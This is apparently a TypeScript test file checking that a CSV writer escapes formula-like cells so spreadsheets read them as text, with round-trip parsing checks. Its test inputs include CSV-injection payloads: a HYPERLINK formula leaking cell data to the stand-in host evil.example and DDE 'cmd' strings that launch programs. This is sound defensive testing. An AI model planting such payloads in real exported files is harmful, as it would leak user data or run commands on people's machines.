/**
 * The one CSV writer (src/domain/tabular/write-csv.ts): formula-looking text is written as
 * text, numbers stay numbers, and the result parses back to the same cells.
 */
import Papa from 'papaparse'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvRecords, escapeFormula } from '../../src/domain/tabular/write-csv.ts'
import { errorReportCsv } from '../../src/domain/import/index.ts'

describe('escapeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1, "点击查看")', `'=HYPERLINK("http://evil.example/?leak="&A1, "点击查看")`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['+1+cmd|x', `'+1+cmd|x`],
    ['-2+3+cmd|x', `'-2+3+cmd|x`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['+', `'+`],
    ['-', `'-`],
  ])('%j is written as text', (cell, written) => {
    expect(escapeFormula(cell)).toBe(written)
  })

  it.each(['-1', '+86', '-0.5', '-.5', '1e-3', '-122.4194155', '119.9869105', '0', ''])('the number %j stays as it is', (cell) => {
    expect(escapeFormula(cell)).toBe(cell)
  })

  it('leaves ordinary text alone, including = further in', () => {
    for (const cell of ['小区门口垃圾堆放', 'a=b', ' =1', '（=）', 'RX2026-01']) expect(escapeFormula(cell)).toBe(cell)
  })
})

describe('csvRecords', () => {
  it('quotes where needed, CRLF after every record, each formula cell escaped', () => {
    const text = csvRecords([
      ['编号', '描述', '经度'],
      ['1', '=HYPERLINK("x")', '-1'],
      ['2', '含,逗号和"引号"\n第二行', '@SUM(A1)'],
    ])
    expect(text).toBe(`编号,描述,经度\r\n1,"'=HYPERLINK(""x"")",-1\r\n2,"含,逗号和""引号""\n第二行",'@SUM(A1)\r\n`)
    expect(csvRecords([])).toBe('')
  })

  it('parses back to the cells it was given, escaped where they looked like formulas', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', '中', ',', '"', '\n', '\r\n', '=', '+', '-', '@', '1', ' ', '\t') })
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (records) => {
        const width = records[0].length
        const rectangular = records.map((cells) => Array.from({ length: width }, (_unused, k) => cells[k] ?? 'x'))
        const parsed = Papa.parse<string[]>(csvRecords(rectangular), { header: false, newline: '\r\n', delimiter: ',' }).data
        // papaparse reports the empty string after the last CRLF as one more, empty record.
        expect(parsed.slice(0, rectangular.length)).toEqual(rectangular.map((cells) => cells.map(escapeFormula)))
      }),
    )
  })

  it('the import error report escapes every column with it', () => {
    const csv = errorReportCsv([{ row: 4, field: '@来源', value: '+AAA', reason: '=原因', code: 'missing', target: 'source' }])
    expect(csv).toBe(`\uFEFF行号,字段,值,原因\r\n4,'@来源,'+AAA,'=原因\r\n`)
  })
})
